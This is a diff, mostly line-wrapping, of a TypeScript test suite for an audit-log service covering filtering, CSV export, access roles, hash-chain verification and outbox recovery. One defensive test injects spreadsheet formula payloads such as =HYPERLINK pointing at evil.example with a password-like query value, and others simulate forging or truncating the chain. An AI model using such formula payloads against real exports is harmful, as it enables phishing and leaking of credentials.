@@ -19,7 +19,9 @@ describe('audit trail', () => {
     const analyst = as(t, cast.analyst);
     await analyst.post('/api/v1/rulesets', invoiceRuleset('audited'));
     await analyst.post('/api/v1/rulesets/audited/versions/1/submit', { comment: 'Révision annuelle' });
-    await as(t, cast.approver).post('/api/v1/rulesets/audited/versions/1/approve', { comment: 'Conforme à la politique' });
+    await as(t, cast.approver).post('/api/v1/rulesets/audited/versions/1/approve', {
+      comment: 'Conforme à la politique',
+    });
     await t.http.post('/api/v1/auth/login').send({ username: 'risk', password: 'mauvais' });
   });
   afterAll(() => t.close());
@@ -34,11 +36,22 @@ describe('audit trail', () => {
   it('filters by resource, actor, action and dates, newest first by default', async () => {
     const byResource = await risk.get('/api/v1/audit?resourceType=ruleset&resourceKey=audited');
     expect(byResource.headers['content-range']).toBe('audit 0-2/3');
-    expect((byResource.body as { action: string }[]).map((e) => e.action)).toEqual(['ruleset.approved', 'ruleset.submitted', 'ruleset.created']);
-    expect(byResource.body[0]).toMatchObject({ actor: 'approver', version: 1, reason: 'Conforme à la politique', summary: { before: { status: 'in_review' }, after: { status: 'approved' } } });
+    expect((byResource.body as { action: string }[]).map((e) => e.action)).toEqual([
+      'ruleset.approved',
+      'ruleset.submitted',
+      'ruleset.created',
+    ]);
+    expect(byResource.body[0]).toMatchObject({
+      actor: 'approver',
+      version: 1,
+      reason: 'Conforme à la politique',
+      summary: { before: { status: 'in_review' }, after: { status: 'approved' } },
+    });
     const failures = await risk.get('/api/v1/audit?action=auth.login_failed&actor=risk');
     expect(failures.body).toHaveLength(1);
-    const future = await risk.get(`/api/v1/audit?from=${encodeURIComponent(new Date(Date.now() + 60_000).toISOString())}`);
+    const future = await risk.get(
+      `/api/v1/audit?from=${encodeURIComponent(new Date(Date.now() + 60_000).toISOString())}`,
+    );
     expect(future.body).toEqual([]);
     const viaConsoleFilter = await risk.get(`/api/v1/audit?filter=${encodeURIComponent('{"actor":"approver"}')}`);
     expect((viaConsoleFilter.body as { actor: string }[]).every((e) => e.actor === 'approver')).toBe(true);
@@ -50,7 +63,10 @@ describe('audit trail', () => {
     expect(csv.status).toBe(200);
     expect(csv.headers['content-type']).toMatch(/^text\/csv/);
     expect(csv.headers['content-disposition']).toContain('attachment');
-    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\n');
+    const lines = csv.text
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split('\n');
     expect(lines[0]).toBe('seq,at,actor,action,resourceType,resourceKey,version,reason,summary,details,prevHash,hash');
     expect(lines).toHaveLength(4);
     expect(lines[3]).toContain('Conforme à la politique');
@@ -59,7 +75,9 @@ describe('audit trail', () => {
   it('exports formulas as text: a comment or a username typed as =HYPERLINK(…) never becomes a live cell', async () => {
     const analyst = as(t, cast.analyst);
     await analyst.post('/api/v1/rulesets', invoiceRuleset('formula'));
-    await analyst.post('/api/v1/rulesets/formula/versions/1/submit', { comment: '=HYPERLINK("https://evil.example","Cliquez")' });
+    await analyst.post('/api/v1/rulesets/formula/versions/1/submit', {
+      comment: '=HYPERLINK("https://evil.example","Cliquez")',
+    });
     const typed = '=HYPERLINK("https://evil.example/?p=MotDePasse123","ok")';
     await t.http.post('/api/v1/auth/login').send({ username: typed, password: 'x' });
     const csv = (await risk.get('/api/v1/audit/export?resourceKey=formula')).text;
@@ -72,19 +90,40 @@ describe('audit trail', () => {
 
   it('is readable by risk officers and admins only', async () => {
     expect((await as(t, cast.admin).get('/api/v1/audit')).status).toBe(200);
-    for (const token of [cast.analyst, cast.approver]) expect((await as(t, token).get('/api/v1/audit/verify')).status).toBe(403);
+    for (const token of [cast.analyst, cast.approver])
+      expect((await as(t, token).get('/api/v1/audit/verify')).status).toBe(403);
   });
 
   it('keeps one linear chain when two instances append at once', async () => {
-    const second = await startWithConfig(loadConfig({ NODE_ENV: 'test', LOG_LEVEL: 'silent', DATA_DIR: t.config.dataDir, MONGODB_URI: t.config.mongodbUri! }));
+    const second = await startWithConfig(
+      loadConfig({
+        NODE_ENV: 'test',
+        LOG_LEVEL: 'silent',
+        DATA_DIR: t.config.dataDir,
+        MONGODB_URI: t.config.mongodbUri!,
+      }),
+    );
     try {
       const audits = [t.app.get(AuditService), second.app.get(AuditService)];
       await Promise.all(
-        Array.from({ length: 40 }, (_, i) => audits[i % 2]!.record({ actor: `load-${i}`, action: 'test.concurrent', resourceType: 'test', details: { i } })),
+        Array.from({ length: 40 }, (_, i) =>
+          audits[i % 2]!.record({
+            actor: `load-${i}`,
+            action: 'test.concurrent',
+            resourceType: 'test',
+            details: { i },
+          }),
+        ),
       );
       const verified = await risk.get('/api/v1/audit/verify');
       expect(verified.body.ok).toBe(true);
-      const seqs = (await t.db.collection('audit_events').find({}, { projection: { seq: 1 } }).sort({ seq: 1 }).toArray()).map((e) => e['seq'] as number);
+      const seqs = (
+        await t.db
+          .collection('audit_events')
+          .find({}, { projection: { seq: 1 } })
+          .sort({ seq: 1 })
+          .toArray()
+      ).map((e) => e['seq'] as number);
       expect(seqs).toEqual(Array.from({ length: seqs.length }, (_, i) => i + 1));
       expect(await t.db.collection('audit_events').countDocuments({ action: 'test.concurrent' })).toBe(40);
     } finally {
@@ -93,38 +132,101 @@ describe('audit trail', () => {
   });
 
   it('records an event left in an outbox by a process that died before writing it, exactly once', async () => {
-    const orphan = { id: randomUUID(), at: new Date().toISOString(), entry: { actor: 'approver', action: 'ruleset.published', resourceType: 'ruleset', resourceKey: 'audited', version: 1 } };
+    const orphan = {
+      id: randomUUID(),
+      at: new Date().toISOString(),
+      entry: {
+        actor: 'approver',
+        action: 'ruleset.published',
+        resourceType: 'ruleset',
+        resourceKey: 'audited',
+        version: 1,
+      },
+    };
     await t.db.collection('rulesets').updateOne({ _id: 'audited' } as never, { $push: { outbox: orphan } } as never);
-    const restarted = await startWithConfig(loadConfig({ NODE_ENV: 'test', LOG_LEVEL: 'silent', DATA_DIR: t.config.dataDir, MONGODB_URI: t.config.mongodbUri! }));
+    const restarted = await startWithConfig(
+      loadConfig({
+        NODE_ENV: 'test',
+        LOG_LEVEL: 'silent',
+        DATA_DIR: t.config.dataDir,
+        MONGODB_URI: t.config.mongodbUri!,
+      }),
+    );
     await restarted.close();
-    const again = await startWithConfig(loadConfig({ NODE_ENV: 'test', LOG_LEVEL: 'silent', DATA_DIR: t.config.dataDir, MONGODB_URI: t.config.mongodbUri! }));
+    const again = await startWithConfig(
+      loadConfig({
+        NODE_ENV: 'test',
+        LOG_LEVEL: 'silent',
+        DATA_DIR: t.config.dataDir,
+        MONGODB_URI: t.config.mongodbUri!,
+      }),
+    );
     await again.close();
     expect(await t.db.collection('audit_events').countDocuments({ _id: orphan.id } as never)).toBe(1);
     // The next change of the resource drops recorded entries from its outbox.
     await as(t, cast.approver).post('/api/v1/rulesets/audited/versions/1/publish');
-    const outbox = (await t.db.collection('rulesets').findOne({ _id: 'audited' } as never))?.['outbox'] as { id: string }[];
+    const outbox = (await t.db.collection('rulesets').findOne({ _id: 'audited' } as never))?.['outbox'] as {
+      id: string;
+    }[];
     expect(outbox.map((o) => o.id)).not.toContain(orphan.id);
     expect(outbox).toHaveLength(1);
     expect((await risk.get('/api/v1/audit/verify')).body.ok).toBe(true);
   });
 
   it('records key and user events left in their outboxes at the next start', async () => {
-    const keyEvent = { id: randomUUID(), at: new Date().toISOString(), entry: { actor: 'admin', action: 'api_key.revoked', resourceType: 'api_key', resourceKey: 'k-orphan' } };
-    const userEvent = { id: randomUUID(), at: new Date().toISOString(), entry: { actor: 'admin', action: 'user.roles_changed', resourceType: 'user', resourceKey: 'analyst', summary: { before: ['analyst'], after: ['risk'] } } };
-    await t.db.collection('api_keys').insertOne({ _id: 'k-orphan', name: 'x', scopes: ['evaluate:*'], secretHash: 'h', createdBy: 'admin', createdAt: new Date(), outbox: [keyEvent] } as never);
+    const keyEvent = {
+      id: randomUUID(),
+      at: new Date().toISOString(),
+      entry: { actor: 'admin', action: 'api_key.revoked', resourceType: 'api_key', resourceKey: 'k-orphan' },
+    };
+    const userEvent = {
+      id: randomUUID(),
+      at: new Date().toISOString(),
+      entry: {
+        actor: 'admin',
+        action: 'user.roles_changed',
+        resourceType: 'user',
+        resourceKey: 'analyst',
+        summary: { before: ['analyst'], after: ['risk'] },
+      },
+    };
+    await t.db.collection('api_keys').insertOne({
+      _id: 'k-orphan',
+      name: 'x',
+      scopes: ['evaluate:*'],
+      secretHash: 'h',
+      createdBy: 'admin',
+      createdAt: new Date(),
+      outbox: [keyEvent],
+    } as never);
     await t.db.collection('users').updateOne({ _id: 'analyst' } as never, { $push: { outbox: userEvent } } as never);
-    const restarted = await startWithConfig(loadConfig({ NODE_ENV: 'test', LOG_LEVEL: 'silent', DATA_DIR: t.config.dataDir, MONGODB_URI: t.config.mongodbUri! }));
+    const restarted = await startWithConfig(
+      loadConfig({
+        NODE_ENV: 'test',
+        LOG_LEVEL: 'silent',
+        DATA_DIR: t.config.dataDir,
+        MONGODB_URI: t.config.mongodbUri!,
+      }),
+    );
     await restarted.close();
-    expect(await t.db.collection('audit_events').countDocuments({ _id: { $in: [keyEvent.id, userEvent.id] } } as never)).toBe(2);
+    expect(
+      await t.db.collection('audit_events').countDocuments({ _id: { $in: [keyEvent.id, userEvent.id] } } as never),
+    ).toBe(2);
     expect((await t.db.collection('api_keys').findOne({ _id: 'k-orphan' } as never))?.['outbox']).toEqual([]);
     expect((await t.db.collection('users').findOne({ _id: 'analyst' } as never))?.['outbox']).toEqual([]);
   });
 
   it('fails verification after one stored event is altered, naming it', async () => {
-    const target = await t.db.collection('audit_events').findOne({ action: 'ruleset.approved', resourceKey: 'audited' });
+    const target = await t.db
+      .collection('audit_events')
+      .findOne({ action: 'ruleset.approved', resourceKey: 'audited' });
     await t.db.collection('audit_events').updateOne({ _id: target!['_id'] }, { $set: { actor: 'analyst' } });
     const verified = await risk.get('/api/v1/audit/verify');
-    expect(verified.body).toMatchObject({ ok: false, events: target!['seq'] - 1, brokenAt: { seq: target!['seq'], eventId: target!['_id'], reason: 'hash_mismatch' } });
+    expect(verified.body).toMatchObject({
+      ok: false,
+      events: target!['seq'] - 1,
+      brokenAt: { seq: target!['seq'], eventId: target!['_id'], reason: 'hash_mismatch' },
+    });
 
     await t.db.collection('audit_events').updateOne({ _id: target!['_id'] }, { $set: { actor: 'approver' } });
     expect((await risk.get('/api/v1/audit/verify')).body.ok).toBe(true);
@@ -136,8 +238,17 @@ describe('audit trail', () => {
 describe('audit chain keyed and anchored outside the database', () => {
   let t: TestApp;
   let risk: ReturnType<typeof as>;
-  const verify = async () => (await risk.get('/api/v1/audit/verify')).body as { ok: boolean; brokenAt?: { seq: number; reason: string }; anchor?: { seq: number; head: string } };
-  const allEvents = async () => (await t.db.collection('audit_events').find({}).sort({ seq: 1 }).toArray()) as unknown as (ChainedEvent & { _id: string; at: Date })[];
+  const verify = async () =>
+    (await risk.get('/api/v1/audit/verify')).body as {
+      ok: boolean;
+      brokenAt?: { seq: number; reason: string };
+      anchor?: { seq: number; head: string };
+    };
+  const allEvents = async () =>
+    (await t.db.collection('audit_events').find({}).sort({ seq: 1 }).toArray()) as unknown as (ChainedEvent & {
+      _id: string;
+      at: Date;
+    })[];
   /** What someone with write access to the database, but not the key, can do: recompute every hash from the start. */
   const rewriteWithoutKey = async (events: (ChainedEvent & { _id: string; at: Date })[]) => {
     let prevHash = GENESIS_HASH;
@@ -146,8 +257,16 @@ describe('audit chain keyed and anchored outside the database', () => {
       const forged = chain(entry as AuditEntry, _id, seq, at.toISOString(), prevHash);
       prevHash = forged.hash;
       const { mac: _dropped, ...plain } = stored;
-      await t.db.collection('audit_events').replaceOne({ _id } as never, { ...plain, prevHash: forged.prevHash, hash: forged.hash } as never);
-      await t.db.collection('audit_chain').updateOne({ _id: String(seq) } as never, { $set: { hash: forged.hash, 'event.hash': forged.hash, 'event.prevHash': forged.prevHash }, $unset: { 'event.mac': 1 } } as never);
+      await t.db
+        .collection('audit_events')
+        .replaceOne({ _id } as never, { ...plain, prevHash: forged.prevHash, hash: forged.hash } as never);
+      await t.db.collection('audit_chain').updateOne(
+        { _id: String(seq) } as never,
+        {
+          $set: { hash: forged.hash, 'event.hash': forged.hash, 'event.prevHash': forged.prevHash },
+          $unset: { 'event.mac': 1 },
+        } as never,
+      );
     }
   };
 
@@ -166,7 +285,10 @@ describe('audit chain keyed and anchored outside the database', () => {
     expect(events.every((e) => e.mac === 'hmac-sha256')).toBe(true);
     const verified = await verify();
     expect(verified).toMatchObject({ ok: true, anchor: { seq: events.at(-1)!.seq, head: events.at(-1)!.hash } });
-    const anchors = readFileSync(join(t.config.dataDir, 'audit-anchors.jsonl'), 'utf8').trim().split('\n').map((line) => JSON.parse(line) as { seq: number });
+    const anchors = readFileSync(join(t.config.dataDir, 'audit-anchors.jsonl'), 'utf8')
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as { seq: number });
     expect(anchors.at(-1)!.seq).toBe(events.at(-1)!.seq);
   });
 
@@ -178,8 +300,20 @@ describe('audit chain keyed and anchored outside the database', () => {
     expect(verified.ok).toBe(false);
     expect(verified.brokenAt).toEqual({ seq: events.at(-1)!.seq, reason: 'rewritten' });
     // Put the genuine chain back.
-    for (const event of events) await t.db.collection('audit_events').replaceOne({ _id: event._id } as never, event as never);
-    for (const event of events) await t.db.collection('audit_chain').updateOne({ _id: String(event.seq) } as never, { $set: { hash: event.hash, 'event.hash': event.hash, 'event.prevHash': event.prevHash, 'event.mac': event.mac } } as never);
+    for (const event of events)
+      await t.db.collection('audit_events').replaceOne({ _id: event._id } as never, event as never);
+    for (const event of events)
+      await t.db.collection('audit_chain').updateOne(
+        { _id: String(event.seq) } as never,
+        {
+          $set: {
+            hash: event.hash,
+            'event.hash': event.hash,
+            'event.prevHash': event.prevHash,
+            'event.mac': event.mac,
+          },
+        } as never,
+      );
     expect((await verify()).ok).toBe(true);
   });
 
@@ -191,17 +325,26 @@ describe('audit chain keyed and anchored outside the database', () => {
       await t.db.collection('audit_chain').deleteOne({ _id: String(event.seq) } as never);
     }
     await t.db.collection('audit_head').updateMany({}, { $set: { seq: kept.at(-1)!.seq } });
-    const restarted = await startWithConfig(loadConfig({ NODE_ENV: 'test', LOG_LEVEL: 'silent', DATA_DIR: t.config.dataDir, MONGODB_URI: t.config.mongodbUri! }));
+    const restarted = await startWithConfig(
+      loadConfig({
+        NODE_ENV: 'test',
+        LOG_LEVEL: 'silent',
+        DATA_DIR: t.config.dataDir,
+        MONGODB_URI: t.config.mongodbUri!,
+      }),
+    );
     try {
       const token = await restarted.login('risk');
       const verified = (await restarted.http.get('/api/v1/audit/verify').set('authorization', `Bearer ${token}`)).body;
       // The restarted instance has appended (and anchored) after the cut: the older anchor still shows it. (Had an
       // anchor been written at a position the new events now hold, it would say `rewritten` there instead.)
-      expect(verified).toMatchObject({ ok: false, brokenAt: { reason: expect.stringMatching(/^(truncated|rewritten)$/) } });
+      expect(verified).toMatchObject({
+        ok: false,
+        brokenAt: { reason: expect.stringMatching(/^(truncated|rewritten)$/) },
+      });
       expect(verified.anchor.seq).toBeGreaterThan(kept.at(-1)!.seq);
     } finally {
       await restarted.close();
     }
   });
 });
-
